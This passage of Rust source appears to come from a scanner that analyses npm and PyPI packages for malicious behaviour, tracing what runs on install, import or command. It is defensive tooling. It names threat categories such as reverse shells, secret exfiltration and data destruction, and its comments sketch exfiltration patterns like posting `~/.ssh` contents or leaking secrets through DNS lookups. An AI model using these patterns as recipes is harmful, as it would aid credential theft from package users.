use std::cell::RefCell;
use std::collections::{BTreeSet, HashMap, HashSet, VecDeque};
use std::rc::Rc;
use std::sync::Arc;

use customs_ecosystem::{
    ArtifactKind, Ecosystem, FileKind, Package, PackageFile, Role, canonical_name,
};
use rayon::prelude::*;

use crate::cache::{Dialect, Extension, facts_for};
use crate::reach::{self, From};
use crate::signals::clip;
use crate::value::concat;
use crate::{Behaviour, BehaviourKind, Context, FileFacts, Note, javascript, python, shell};
use rustc_hash::{FxHashMap, FxHashSet};

/// Everything the analysers found in one package.
#[derive(Debug, Default)]
pub struct Analysis {
    /// Located behaviours, sorted by file and line.
    pub behaviours: Vec<Behaviour>,
    /// Notes about the analysis itself (files that did not parse).
    pub notes: Vec<Note>,
    /// Files that run at install time (member paths).
    pub install_files: Vec<String>,
    /// Every module specifier any code file imports or requires, as written
    /// (`os.path`, `./util`, `@scope/pkg/sub`).
    pub imports: BTreeSet<String>,
    /// setuptools commands overridden by install-time files (`install`, `develop`, ...).
    pub setup_commands: BTreeSet<String>,
    /// Scripts install-time files install as commands (`setup(scripts=["bin/tool"])`),
    /// as written.
    pub setup_scripts: BTreeSet<String>,
}

/// How many imports deep install-time context is followed from its entry points.
const MAX_FOLLOW: usize = 200;

/// Analyses the code files of the package, in parallel, and places each behaviour in
/// its context.
///
/// Test, example and documentation code ([`Role::Test`]) runs neither on install nor on
/// import, so it is read only when something that does run reaches it: an install entry
/// point, or an import from code that is read (followed until nothing new is reached).
/// When code that is read loads or runs something computed (a dynamic import or `exec`,
/// decoded or obfuscated code), every file is read. pytest loads `conftest.py` by itself,
/// so that is always read. What stays unread is said in a note.
#[must_use]
pub fn analyze_package(pkg: &Package) -> Analysis {
    let code: Vec<(usize, &PackageFile, &str)> = pkg
        .files
        .iter()
        .enumerate()
        .filter(|(_, f)| {
            matches!(
                f.kind,
                FileKind::Python | FileKind::JavaScript | FileKind::TypeScript
            ) || (f.kind == FileKind::Script && shell::Dialect::of_path(&f.relative).is_some())
        })
        .filter_map(|(i, f)| pkg.text(f).map(|t| (i, f, t)))
        .collect();

    let mut analysis = Analysis::default();
    let mut install_roots: Vec<usize> = pkg
        .files
        .iter()
        .enumerate()
        .filter(|(_, f)| matches!(f.role, Role::SetupPy | Role::BuildBackend | Role::Pth))
        .map(|(i, _)| i)
        .collect();
    lifecycle(pkg, &mut analysis, &mut install_roots);
    binding_gyp(pkg, &mut analysis, &mut install_roots);
    crate::npmrc::analyse(pkg, &mut analysis, &mut install_roots);

    let named = entry_point_modules(pkg);
    // A shell script npm links as a command (`bin`) runs whenever the command does.
    let bin_scripts: HashSet<String> = pkg
        .npm
        .iter()
        .flat_map(|m| m.entry_points.iter())
        .map(|e| normalize_rel(e))
        .collect();
    // Scripts, like test code, are read when something that runs reaches them.
    let (mut waiting, first): (Vec<_>, Vec<_>) = code.iter().partition(|&&(i, f, _)| {
        let bin_script = f.kind == FileKind::Script && bin_scripts.contains(&f.relative);
        !(install_roots.contains(&i) || bin_script)
            && (f.kind == FileKind::Script
                || (f.role == Role::Test
                    && !is_conftest(f)
                    && !named_as_entry_point(&f.relative, &named)))
    });
    let mut facts = analyse_files(pkg, &first);
    let resolver = Resolver::new(pkg);
    // Only files read in the last round can reach anything new: the imports of earlier
    // ones were followed then, up to the files that were not read yet.
    let mut fresh: Vec<usize> = facts.keys().copied().collect();
    let mut computed = false;
    // Every file reached so far: one whose imports were followed when it was met, or,
    // unread then, when it was read (it is fresh in the next round). Files met again
    // are not walked again.
    let mut reached: HashSet<usize> = HashSet::new();
    while !waiting.is_empty() {
        if !computed
            && fresh
                .iter()
                .any(|i| facts.get(i).is_some_and(|f| loads_computed(f)))
        {
            // Computed loads reach any code file, but a script only runs when a command
            // names it: scripts stay waiting for one.
            computed = true;
            let (scripts, rest): (Vec<_>, Vec<_>) = waiting
                .iter()
                .partition(|(_, f, _)| f.kind == FileKind::Script);
            fresh.extend(rest.iter().map(|&(i, _, _)| i));
            facts.extend(analyse_files(pkg, &rest));
            waiting = scripts;
            if waiting.is_empty() {
                break;
            }
        }
        follow_more(pkg, &resolver, &facts, &fresh, &mut reached);
        let (now, later): (Vec<_>, Vec<_>) =
            waiting.iter().partition(|(i, _, _)| reached.contains(i));
        if now.is_empty() {
            break;
        }
        fresh = now.iter().map(|&(i, _, _)| i).collect();
        facts.extend(analyse_files(pkg, &now));
        waiting = later;
    }
    let unread_tests = waiting
        .iter()
        .filter(|(_, f, _)| f.kind != FileKind::Script)
        .count();
    if unread_tests > 0 {
        analysis.notes.push(Note {
            path: pkg.root.clone(),
            message: format!(
                "{unread_tests} test, example or documentation code file{} that nothing installed or imported reaches: not analysed",
                if unread_tests == 1 { "" } else { "s" }
            ),
        });
    }

    let install = follow_imports(pkg, &resolver, &facts, &install_roots, MAX_FOLLOW);
    let by_rel: HashSet<&str> = pkg.files.iter().map(|f| f.relative.as_str()).collect();
    analysis.install_files = install.iter().map(|&i| pkg.files[i].path.clone()).collect();
    analysis.install_files.sort();

    // Files whose top level runs on install or import: install files, and importable
    // files other than test code; test code that one of them imports runs as well,
    // whatever its name.
    let runs_on_import: Vec<usize> = code
        .iter()
        .filter(|&&(i, f, _)| {
            facts.contains_key(&i)
                && (install.contains(&i) || (f.role != Role::Test && importable(pkg, f, &by_rel)))
        })
        .map(|&(i, _, _)| i)
        .collect();
    let imported = follow_imports(pkg, &resolver, &facts, &runs_on_import, usize::MAX);
    // A shell script runs as a whole when something that runs names it.
    // Whatever running code imports (or a command of it names) runs too, wherever it
    // lies and whatever its name.
    let runs = |i: usize, f: &PackageFile| {
        install.contains(&i)
            || imported.contains(&i)
            || (f.kind != FileKind::Script && f.role != Role::Test && importable(pkg, f, &by_rel))
    };
    let handed = secrets_handed_to_senders(pkg, &resolver, &facts);
    let reach_of: FxHashMap<usize, &reach::Reach> =
        facts.iter().map(|(&i, f)| (i, &f.reach)).collect();
    let roots: Vec<usize> = code
        .iter()
        .filter(|&&(i, f, _)| facts.contains_key(&i) && runs(i, f))
        .map(|&(i, _, _)| i)
        .collect();
    let reached = reach::reached(&reach_of, roots, |i, qual| {
        resolve_function(pkg, &resolver, &facts, i, qual)
    });
    // What the package's commands run, apart: a function that a top level reaches runs
    // on import whatever else runs it.
    let commands = command_functions(pkg, &resolver, &facts);
    let commanded = if commands.is_empty() {
        FxHashMap::default()
    } else {
        reach::reached_from(&reach_of, [], &commands, |i, qual| {
            resolve_function(pkg, &resolver, &facts, i, qual)
        })
    };

    // Every file's imports, each name once: most repeat across files, and a set of
    // borrowed names spares a copy and an ordered insert for each repeat.
    let mut imports: FxHashSet<&str> = FxHashSet::default();
    for &(i, file, text) in &code {
        let Some(f) = facts.get(&i) else { continue };
        imports.extend(f.imports.iter().map(String::as_str));
        if install.contains(&i) {
            analysis
                .setup_commands
                .extend(f.setup_commands.iter().cloned());
            analysis
                .setup_scripts
                .extend(f.setup_scripts.iter().cloned());
        }
        if let Some(error) = &f.parse_error {
            analysis.notes.push(Note {
                path: file.path.clone(),
                message: error.clone(),
            });
        }
        let top_runs = runs(i, file);
        // A `setup.py` whose `cmdclass` overrides only commands installers never run
        // (`upload`, `publish`): a function nothing at its top level calls is one of those
        // commands, which only the maintainer runs.
        let maintainer_only = file.role == Role::SetupPy
            && !f.setup_commands.is_empty()
            && f.setup_commands
                .iter()
                .all(|c| c != "*" && !python::INSTALL_COMMANDS.contains(&c.as_str()));
        // Only methods (of the command classes), and only where nothing is called by a
        // computed name or hidden, which could reach a function without naming it (an
        // `exec` of the version file beside it is common and calls nothing here).
        let maintainer_only = maintainer_only
            && !f.behaviours.iter().any(|b| {
                matches!(
                    b.kind,
                    BehaviourKind::DynamicImport
                        | BehaviourKind::DecodeExecute
                        | BehaviourKind::DownloadExecute
                        | BehaviourKind::Obfuscation
                )
            });
        let maintainer_command = |raw: &crate::RawBehaviour| {
            maintainer_only
                && f.reach
                    .functions
                    .get(raw.function as usize)
                    .is_some_and(|func| func.name.contains('.'))
                && !raw.top_level
                && raw.function != reach::TOP
                && !reached.contains_key(&(i, raw.function))
        };
        // Line starts only for files with something to locate (most have nothing).
        let lines = if f.behaviours.is_empty() && !handed.contains_key(&i) {
            Lines(Vec::new())
        } else {
            Lines::new(text)
        };
        for raw in f
            .behaviours
            .iter()
            .chain(handed.get(&i).into_iter().flatten())
        {
            let via = (!raw.top_level && raw.function != reach::TOP)
                .then(|| reached.get(&(i, raw.function)).map(|_| (i, raw.function)))
                .flatten();
            // Run by a command the user types: a threat there runs as surely as on
            // import; a capability (a process, the network, a read of the user's files,
            // an autostart entry) may be what the command is for.
            let commanded_at = (via.is_none()
                && !raw.top_level
                && raw.function != reach::TOP
                && COMMAND_THREATS.contains(&raw.kind))
            .then(|| commanded.get(&(i, raw.function)).map(|_| (i, raw.function)))
            .flatten();
            let context = if raw.guarded || maintainer_command(raw) {
                Context::Runtime
            } else if install.contains(&i) {
                Context::Install
            } else if !top_runs {
                Context::Runtime
            } else if raw.top_level
                || via.is_some()
                || commanded_at.is_some()
                || file.kind == FileKind::Script
            {
                Context::Import
            } else {
                Context::Runtime
            };
            let via = match (context, via, commanded_at) {
                (Context::Install | Context::Import, Some(at), _) => {
                    Some(call_chain(pkg, &facts, &reached, at))
                }
                (Context::Import, None, Some(at)) => Some(call_chain(pkg, &facts, &commanded, at)),
                _ => None,
            };
            let (line, column, snippet) = locate_in(text, &lines, raw.offset);
            analysis.behaviours.push(Behaviour {
                kind: raw.kind,
                context,
                path: file.path.clone(),
                line,
                column,
                snippet,
                detail: raw.detail.clone(),
                test_code: file.role == Role::Test && !top_runs,
                via,
            });
        }
    }
    analysis.imports = imports.into_iter().map(str::to_owned).collect();
    pickles(pkg, &mut analysis);
    analysis.behaviours.sort_by(|a, b| {
        (&a.path, a.line, a.column, a.kind).cmp(&(&b.path, b.line, b.column, b.kind))
    });
    analysis.behaviours.dedup_by(|a, b| {
        a.kind == b.kind && a.path == b.path && a.line == b.line && a.detail == b.detail
    });
    analysis
}

/// The facts of each file, analysed in parallel.
fn analyse_files(
    pkg: &Package,
    files: &[(usize, &PackageFile, &str)],
) -> HashMap<usize, Arc<FileFacts>> {
    files
        .par_iter()
        .map(|&(i, f, text)| {
            let digest = pkg.tree.entries[f.entry].sha256;
            let dialect = match (f.kind, f.role) {
                (FileKind::Python, Role::Pth) => Some(Dialect::Pth),
                (FileKind::Python, _) => Some(Dialect::Python),
                _ => Extension::of(&f.relative).map(Dialect::Script),
            };
            let facts = match dialect {
                _ if f.kind == FileKind::Script => Arc::new(shell::file_facts(text, &f.relative)),
                Some(dialect) => analyse_as(dialect, text, &f.relative, digest),
                None => Arc::new(javascript::analyze(text, &f.relative)),
            };
            (i, facts)
        })
        .collect()
}

/// What code run by a package's command must not do whatever the command is for: run
/// code it decodes, send secrets out, wire a shell to a socket, destroy the user's files,
/// swap wallet addresses, republish itself. Downloading and running is left out: tools
/// fetch and run their helpers when asked (ultralytics' `yolo` does, in the benign set).
const COMMAND_THREATS: &[BehaviourKind] = &[
    BehaviourKind::DecodeExecute,
    BehaviourKind::SecretExfiltration,
    BehaviourKind::ReverseShell,
    BehaviourKind::Destruction,
    BehaviourKind::BrowserHijack,
    BehaviourKind::SelfPropagation,
];

/// The functions the package's console and GUI scripts run (`name = pkg.cli:main` in
/// `entry_points.txt`, `setup.cfg` or `[project.scripts]`): each runs whenever the user
/// runs the command the package installed, as surely as a module's top level runs on
/// import (an npm `bin` file's top level is judged alike). Found as (file, function).
fn command_functions(
    pkg: &Package,
    resolver: &Resolver<'_>,
    facts: &HashMap<usize, Arc<FileFacts>>,
) -> Vec<(usize, u32)> {
    let mut out = Vec::new();
    for f in &pkg.files {
        let name = f.relative.rsplit('/').next().unwrap_or("");
        let targets = if matches!(name, "entry_points.txt" | "setup.cfg" | "pyproject.toml") {
            let Some(text) = pkg.text(f) else { continue };
            script_targets(text)
        } else if customs_ecosystem::is_jupyter_config(&f.relative) {
            let Some(text) = pkg.text(f) else { continue };
            jupyter_extensions(text)
        } else {
            continue;
        };
        for (module, function) in targets {
            let path = module.replace('.', "/");
            let file = [
                format!("{path}.py"),
                format!("{path}/__init__.py"),
                format!("src/{path}.py"),
                format!("src/{path}/__init__.py"),
            ]
            .iter()
            .find_map(|c| resolver.file(c));
            let Some(file) = file else { continue };
            let Some(facts) = facts.get(&file) else {
                continue;
            };
            if function == "pytest_*" {
                // A pytest plugin's hooks: its module-level functions named for pytest.
                out.extend(
                    facts
                        .reach
                        .functions
                        .iter()
                        .enumerate()
                        .filter(|(_, func)| func.name.starts_with("pytest_"))
                        .filter_map(|(id, _)| u32::try_from(id).ok())
                        .map(|id| (file, id))
                        .take(16),
                );
            } else if let Some(id) = facts
                .reach
                .functions
                .iter()
                .position(|func| func.name == function)
                .and_then(|id| u32::try_from(id).ok())
            {
                out.push((file, id));
            }
            if out.len() >= 64 {
                return out;
            }
        }
    }
    out
}

/// The functions Jupyter calls in each extension module a configuration file enables
/// (`{"ServerApp": {"jpserver_extensions": {"mod": true}}}`, the notebook's
/// `NotebookApp.nbserver_extensions` alike): the module's `_load_jupyter_server_extension`
/// (or its older names) runs at every server start, with the server object in hand.
fn jupyter_extensions(text: &str) -> Vec<(String, String)> {
    const LOADERS: &[&str] = &[
        "_load_jupyter_server_extension",
        "load_jupyter_server_extension",
    ];
    let Ok(config) = serde_json::from_str::<serde_json::Value>(text) else {
        return Vec::new();
    };
    let mut out = Vec::new();
    for (app, key) in [
        ("ServerApp", "jpserver_extensions"),
        ("NotebookApp", "nbserver_extensions"),
    ] {
        let Some(enabled) = config
            .get(app)
            .and_then(|a| a.get(key))
            .and_then(serde_json::Value::as_object)
        else {
            continue;
        };
        for (module, on) in enabled.iter().take(16) {
            let named = !module.is_empty()
                && module.split('.').all(|p| {
                    !p.is_empty() && p.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
                });
            if named && on.as_bool() == Some(true) {
                out.extend(LOADERS.iter().map(|f| (module.clone(), (*f).to_owned())));
            }
        }
    }
    out
}

/// The `module:function` targets of the script sections of a manifest: `[console_scripts]`
/// and `[gui_scripts]` (entry_points.txt, or setup.cfg's indented `console_scripts =`),
/// `[project.scripts]` and `[project.gui-scripts]` (pyproject.toml).
fn script_targets(text: &str) -> Vec<(String, String)> {
    let mut out = Vec::new();
    // In a scripts section; or under setup.cfg's `console_scripts =` key, whose entries
    // are indented and end at the next key.
    // pytest loads the modules of its `pytest11` group in every session and calls their
    // `pytest_*` hooks: `(module, "pytest_*")`.
    let (mut section, mut key_block, mut plugins) = (false, false, false);
    for line in text.lines().take(10_000) {
        let trimmed = line.trim();
        if trimmed.starts_with('[') {
            let name = trimmed.trim_matches(|c| c == '[' || c == ']').trim();
            plugins = matches!(
                name,
                "pytest11" | "project.entry-points.pytest11" | "project.entry-points.\"pytest11\""
            );
            section = plugins
                || matches!(
                    name,
                    "console_scripts" | "gui_scripts" | "project.scripts" | "project.gui-scripts"
                );
            key_block = false;
            continue;
        }
        let Some((key, value)) = trimmed.split_once('=') else {
            continue;
        };
        let key = key.trim();
        if !line.starts_with([' ', '\t']) && !section {
            key_block = matches!(key, "console_scripts" | "gui_scripts" | "pytest11");
            plugins = key == "pytest11";
        }
        if !(section || key_block) {
            continue;
        }
        let value = value.trim().trim_matches(|c| c == '"' || c == '\'');
        let target = value.split(['[', ' ']).next().unwrap_or("");
        let (module, function) = match target.split_once(':') {
            Some((m, f)) => (m, f),
            None if plugins => (target, "pytest_*"),
            None => continue,
        };
        let word = |s: &str| {
            !s.is_empty()
                && s.split('.').all(|p| {
                    !p.is_empty() && p.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
                })
        };
        if word(module) && (word(function) || function == "pytest_*") {
            out.push((module.to_owned(), function.to_owned()));
        }
    }
    out
}

/// The dotted module paths that the manifests naming Python entry points
/// (`name = module.path:function`) may point at: every prefix of a dotted word that a `.`
/// follows (`tests` of `tests.cli`), and a whole word that a `:` follows (`tests.cli`).
/// A command runs the module it names, wherever it lies.
fn entry_point_modules(pkg: &Package) -> HashSet<String> {
    let mut modules = HashSet::new();
    let manifests = pkg.files.iter().filter(|f| {
        matches!(
            f.relative.rsplit('/').next(),
            Some("entry_points.txt" | "setup.cfg" | "pyproject.toml")
        )
    });
    for text in manifests.filter_map(|f| pkg.text(f)) {
        let bytes = text.as_bytes();
        let mut start = None;
        for (i, &b) in bytes.iter().enumerate() {
            let word = b.is_ascii_alphanumeric() || b == b'_';
            match (start, word) {
                (None, true) => start = Some(i),
                (Some(s), false) if b == b'.' || b == b':' => {
                    modules.insert(text[s..i].to_owned());
                    if b == b':' {
                        start = None;
                    }
                }
                (Some(_), false) => start = None,
                _ => {}
            }
        }
    }
    modules
}

/// Whether an entry point may name this test file's module: the dotted path up to its
/// test folder (`tests.cli:main` for `tests/cli.py`, `pkg.tests.x:f` for
/// `src/pkg/tests/x.py`), or its whole dotted module for a `test_*.py` outside one.
fn named_as_entry_point(relative: &str, named: &HashSet<String>) -> bool {
    if named.is_empty() {
        return false;
    }
    let module = relative
        .strip_prefix("src/")
        .unwrap_or(relative)
        .trim_end_matches(".py")
        .replace('/', ".");
    let parts: Vec<&str> = module.split('.').collect();
    let end = parts
        .iter()
        .position(|p| customs_ecosystem::is_test_dir(p))
        .map_or(parts.len(), |k| k + 1);
    named.contains(&parts[..end].join("."))
}

fn is_conftest(file: &PackageFile) -> bool {
    file.relative.rsplit('/').next() == Some("conftest.py")
}

/// Whether a file loads or runs what cannot be followed by name: then any file may run.
fn loads_computed(facts: &FileFacts) -> bool {
    facts.behaviours.iter().any(|b| {
        matches!(
            b.kind,
            BehaviourKind::DynamicImport
                | BehaviourKind::DynamicExecute
                | BehaviourKind::DecodeExecute
                | BehaviourKind::DownloadExecute
                | BehaviourKind::Obfuscation
        )
    })
}

/// Analyses one file ahead of [`analyze_package`], from its member path and content alone,
/// so that the work can start while the rest of its archive is still being read: the
/// facts go to the process's cache, where [`analyze_package`] finds them. Files whose
/// extension no analyser reads, and test code (read only when something reaches it), are
/// ignored.
pub fn prepare(path: &str, text: &str, digest: Option<[u8; 32]>) {
    if let Some(dialect) = early_dialect(path) {
        analyse_as(dialect, text, path, digest);
    }
}

/// Whether [`prepare`] analyses a member of this path (a caller can skip copying the
/// others).
#[must_use]
pub fn prepares(path: &str) -> bool {
    early_dialect(path).is_some()
}

fn early_dialect(path: &str) -> Option<Dialect> {
    let name = path.rsplit('/').next().unwrap_or(path).to_ascii_lowercase();
    // Test code is read only if something reaches it (see `analyze_package`).
    if name != "conftest.py" && customs_ecosystem::looks_like_test(path) {
        return None;
    }
    if [".d.ts", ".d.mts", ".d.cts"]
        .iter()
        .any(|d| name.ends_with(d))
    {
        return None;
    }
    match name.rsplit_once('.').map_or("", |(_, e)| e) {
        "py" | "pyw" => Some(Dialect::Python),
        "pth" => Some(Dialect::Pth),
        "js" | "cjs" | "mjs" | "jsx" | "ts" | "tsx" | "mts" | "cts" => {
            Extension::of(path).map(Dialect::Script)
        }
        _ => None,
    }
}

/// The facts of a file in a dialect, from the cache or its analyser. `path` gives a
/// script's extension (the parser's dialect).
fn analyse_as(
    dialect: Dialect,
    text: &str,
    path: &str,
    digest: Option<[u8; 32]>,
) -> Arc<FileFacts> {
    facts_for(text, digest, dialect, || match dialect {
        Dialect::Python => python::analyze(text),
        Dialect::Pth => python::analyze(&pth_code(text)),
        Dialect::Script(_) => javascript::analyze(text, path),
    })
}

/// Whether a file's top level runs when the package is imported. Python files of a
/// source tree are importable at the root, under `src/`, or in a package: a folder whose
/// every folder down from the root (or `src/`) has an `__init__.py`, or under a
/// namespace folder the distribution is named after (`google/` of
/// `google-cloud-storage`). Other Python files are scripts or vendored tools that run
/// only when someone runs them (`bootloader/waflib/processor.py` of an sdist is never
/// installed). Everything in a wheel is installed, and any JavaScript file of an npm
/// package can be required; a Python distribution's JavaScript runs in a browser.
fn importable(pkg: &Package, file: &PackageFile, files: &HashSet<&str>) -> bool {
    // Python imports neither JavaScript nor TypeScript: in a Python distribution they are
    // assets served to a browser (or run by a command, which follows them as it does
    // scripts), never code that installing or importing the package runs.
    if matches!(file.kind, FileKind::JavaScript | FileKind::TypeScript)
        && pkg.identity.ecosystem == Ecosystem::Pypi
    {
        return false;
    }
    if file.kind != FileKind::Python || pkg.artifact == ArtifactKind::Wheel {
        return true;
    }
    let relative = file.relative.strip_prefix("src/").unwrap_or(&file.relative);
    let Some((dir, _)) = relative.rsplit_once('/') else {
        return true;
    };
    let base = if relative.len() == file.relative.len() {
        ""
    } else {
        "src/"
    };
    if !files.contains(format!("{base}{dir}/__init__.py").as_str()) {
        return false;
    }
    // Under a top folder named like the distribution, folders without `__init__.py`
    // are namespace packages (`google/cloud/` of `google-cloud-storage`).
    let first = dir.split('/').next().unwrap_or("");
    let name = pkg.identity.canonical_name();
    if name.starts_with(&canonical_name(Ecosystem::Pypi, first)) {
        return true;
    }
    let mut at = 0;
    while let Some(slash) = dir[at..].find('/').map(|i| at + i) {
        if !files.contains(format!("{base}{}/__init__.py", &dir[..slash]).as_str()) {
            return false;
        }
        at = slash + 1;
    }
    true
}

/// The executable part of a `.pth` file: its lines that start with `import` (site.py
/// runs those at every interpreter start); other lines become blank, keeping offsets.
fn pth_code(text: &str) -> String {
    text.split_inclusive('\n')
        .map(|line| {
            let t = line.trim_start();
            if t.starts_with("import ") || t.starts_with("import\t") {
                line.to_owned()
            } else {
                " ".repeat(line.trim_end_matches('\n').len())
                    + if line.ends_with('\n') { "\n" } else { "" }
            }
        })
        .collect()
}

/// Where each line of a file starts, to place offsets without rescanning the file.
struct Lines(Vec<usize>);

impl Lines {
    fn new(text: &str) -> Self {
        let mut starts = vec![0];
        starts.extend(memchr::memchr_iter(b'\n', text.as_bytes()).map(|i| i + 1));
        Self(starts)
    }

    /// The 0-based line holding `at`.
    fn index(&self, at: usize) -> usize {
        self.0.partition_point(|&s| s <= at).saturating_sub(1)
    }
}

/// 1-based line and column of an offset, and the line as a snippet (a window around the
/// column for very long lines such as minified code).
pub(crate) fn locate(text: &str, offset: u32) -> (u32, u32, String) {
    locate_in(text, &Lines::new(text), offset)
}

fn locate_in(text: &str, lines: &Lines, offset: u32) -> (u32, u32, String) {
    let at = (offset as usize).min(text.len());
    let at = (0..=at)
        .rev()
        .find(|&i| text.is_char_boundary(i))
        .unwrap_or(0);
    let line = lines.index(at);
    let start = lines.0[line];
    let end = lines.0.get(line + 1).map_or(text.len(), |&next| next - 1);
    let line_text = &text[start..end.max(start)];
    let column = u32::try_from(text[start..at].chars().count() + 1).unwrap_or(u32::MAX);
    let snippet = if line_text.len() <= 200 {
        line_text.trim_end().to_owned()
    } else {
        // 160 characters from 60 before the column, found by byte offsets: in a
        // minified line the column can be far in, and stepping there a character at a
        // time was 50 M instructions of the scan of `next` (284 snippets).
        let before = &line_text[..(at - start).min(line_text.len())];
        let from = before.char_indices().rev().nth(59).map_or(0, |(i, _)| i);
        let rest = &line_text[from..];
        let to = rest.char_indices().nth(160).map_or(rest.len(), |(i, _)| i);
        concat(["…", &rest[..to], "…"])
    };
    (u32::try_from(line + 1).unwrap_or(u32::MAX), column, snippet)
}

/// npm lifecycle scripts: shell behaviours located at their line in package.json, and
/// the script files they run (install-time roots).
fn lifecycle(pkg: &Package, analysis: &mut Analysis, roots: &mut Vec<usize>) {
    let Some(manifest) = &pkg.npm else { return };
    let Some(file) = pkg.files.iter().find(|f| f.role == Role::PackageJson) else {
        return;
    };
    let text = pkg.text(file).unwrap_or("");
    // The hooks, and the manifest's scripts they run with `npm run NAME` (to a bound).
    let mut hooks: Vec<(&str, &str)> = manifest.install_scripts().collect();
    let mut next = 0;
    while next < hooks.len() {
        let (hook, script) = hooks[next];
        next += 1;
        let offset = text.find(&format!("\"{hook}\"")).unwrap_or(0);
        let (line, column, snippet) = locate(text, u32::try_from(offset).unwrap_or(0));
        let mut push = |kind: BehaviourKind, detail: String| {
            analysis.behaviours.push(Behaviour {
                kind,
                context: Context::Install,
                path: file.path.clone(),
                line,
                column,
                snippet: snippet.clone(),
                detail,
                test_code: false,
                via: None,
            });
        };
        let mut found = shell::analyze_command(script);
        // On Windows npm runs scripts with cmd.exe, where `scripts\setup.cmd` is a path.
        if windows_path(script) {
            let batch = shell::analyze_script(script, shell::Dialect::Batch);
            found.findings.extend(batch.findings);
            found.runs.extend(batch.runs);
        }
        for f in found.findings {
            push(f.kind, format!("`{hook}` script: {}", f.detail));
        }
        // npm runs lifecycle scripts from the package root.
        roots.extend(found.runs.iter().filter_map(|run| find_run(pkg, "", run)));
        for name in &found.npm_runs {
            if hooks.len() < 32
                && !hooks.iter().any(|(h, _)| h == name)
                && let Some((h, s)) = manifest.scripts.get_key_value(name.as_str())
            {
                hooks.push((h.as_str(), s.as_str()));
            }
        }
    }
}

/// Whether a command line names a path with backslashes (`scripts\\setup.cmd`), which
/// only cmd.exe reads as one.
fn windows_path(command: &str) -> bool {
    let b = command.as_bytes();
    b.windows(3).any(|w| {
        (w[0].is_ascii_alphanumeric() || matches!(w[0], b'.' | b'_' | b'-'))
            && w[1] == b'\\'
            && (w[2].is_ascii_alphanumeric() || matches!(w[2], b'.' | b'_'))
    })
}

/// Calls that hand secrets to a function of the package which sends its parameters over
/// the network (`sendHooks(bag)` with `bag` holding `~/.ssh`, and `sendHooks` in another
/// file posting what it is given): secret exfiltration at the call, by file.
fn secrets_handed_to_senders(
    pkg: &Package,
    resolver: &Resolver<'_>,
    facts: &HashMap<usize, Arc<FileFacts>>,
) -> HashMap<usize, Vec<crate::RawBehaviour>> {
    let mut out: HashMap<usize, Vec<crate::RawBehaviour>> = HashMap::new();
    // Built at the first secret call or handoff: most packages have none.
    let senders = std::cell::OnceCell::new();
    for (&i, f) in facts {
        // A function of the file by its name, or one of another file of the package by
        // the import it is named through (`./hooks.send`; Python's `util.net.send`).
        let function = |callee: &str| package_function(pkg, resolver, facts, i, callee);
        let sends = |j: usize, name: &str| {
            senders
                .get_or_init(|| param_senders(pkg, resolver, facts))
                .contains(&(j, name.to_owned()))
        };
        let has = |j: usize, name: &str, ids: fn(&FileFacts) -> &[u32]| {
            facts.get(&j).is_some_and(|g| {
                ids(g).iter().any(|&k| {
                    g.reach
                        .functions
                        .get(k as usize)
                        .is_some_and(|func| func.name == name)
                })
            })
        };
        for call in &f.secret_calls {
            let Some((j, name)) = function(&call.callee) else {
                continue;
            };
            if !sends(j, &name) {
                continue;
            }
            let detail = if j == i {
                format!("secrets handed to {name}(), which sends what it is given over the network")
            } else {
                format!(
                    "secrets handed to {name}() of {}, which sends what it is given over the network",
                    pkg.files[j].relative
                )
            };
            out.entry(i).or_default().push(crate::RawBehaviour {
                kind: BehaviourKind::SecretExfiltration,
                top_level: call.top_level,
                offset: call.offset,
                detail,
                guarded: false,
                function: call.function,
            });
        }
        // What one function of the package returns, secrets or host details, handed to
        // another that sends what it is given (`net.publish(sysinfo.gather())`).
        for handoff in &f.handoffs {
            let (Some((j, name)), Some((k, source))) =
                (function(&handoff.call.callee), function(&handoff.source))
            else {
                continue;
            };
            if !(sends(j, &name) && has(k, &source, |g| &g.secret_returns)) {
                continue;
            }
            let list = out.entry(i).or_default();
            if !list.iter().any(|b| b.offset == handoff.call.offset) {
                list.push(crate::RawBehaviour {
                    kind: BehaviourKind::SecretExfiltration,
                    top_level: handoff.call.top_level,
                    offset: handoff.call.offset,
                    detail: format!(
                        "what {source}() of {} returns (secrets or host details) handed to {name}() of {}, which sends what it is given over the network",
                        pkg.files[k].relative, pkg.files[j].relative
                    ),
                    guarded: false,
                    function: handoff.call.function,
                });
            }
        }
        // What a function of another file returns, sent over the network, where that
        // function returns secrets (`dns.resolveTxt(encode(collect()) + ...)`).
        for send in &f.result_sends {
            let Some((j, name)) = resolve_function(pkg, resolver, facts, i, &send.callee) else {
                continue;
            };
            let Some(g) = facts.get(&j) else { continue };
            let returns = g.secret_returns.iter().any(|&k| {
                g.reach
                    .functions
                    .get(k as usize)
                    .is_some_and(|func| func.name == name)
            });
            if !returns {
                continue;
            }
            let list = out.entry(i).or_default();
            if !list.iter().any(|b| b.offset == send.offset) {
                list.push(crate::RawBehaviour {
                    kind: BehaviourKind::SecretExfiltration,
                    top_level: send.top_level,
                    offset: send.offset,
                    detail: format!(
                        "sends what {name}() of {} returns, secrets, over the network",
                        pkg.files[j].relative
                    ),
                    guarded: false,
                    function: send.function,
                });
            }
        }
    }
    out
}

/// The function `callee` names from file `i`: one of the file by its name, or one of
/// another file of the package by the import it is named through (`./hooks.send`;
/// Python's `util.net.send`).
fn package_function(
    pkg: &Package,
    resolver: &Resolver<'_>,
    facts: &HashMap<usize, Arc<FileFacts>>,
    i: usize,
    callee: &str,
) -> Option<(usize, String)> {
    let python = pkg.files[i].kind == FileKind::Python;
    if callee.starts_with('.') || (python && callee.contains('.')) {
        resolve_function(pkg, resolver, facts, i, callee)
    } else {
        Some((i, callee.to_owned()))
    }
}

/// The functions of the package (file, name) that send what they are given over the
/// network: those whose own sends carry their parameters, and those that hand their
/// parameters to one of these (`tap(req)` starting a thread on `ship(record)`).
fn param_senders(
    pkg: &Package,
    resolver: &Resolver<'_>,
    facts: &HashMap<usize, Arc<FileFacts>>,
) -> HashSet<(usize, String)> {
    let name = |f: &FileFacts, k: u32| {
        f.reach
            .functions
            .get(usize::try_from(k).ok()?)
            .map(|func| func.name.clone())
    };
    let mut senders: HashSet<(usize, String)> = facts
        .iter()
        .flat_map(|(&i, f)| {
            f.param_sends
                .iter()
                .filter_map(move |&k| Some((i, name(f, k)?)))
        })
        .collect();
    // Chains of hand-offs are short; a few rounds reach their end.
    for _ in 0..6 {
        let mut added = false;
        for (&i, f) in facts {
            for (k, callee) in &f.param_forwards {
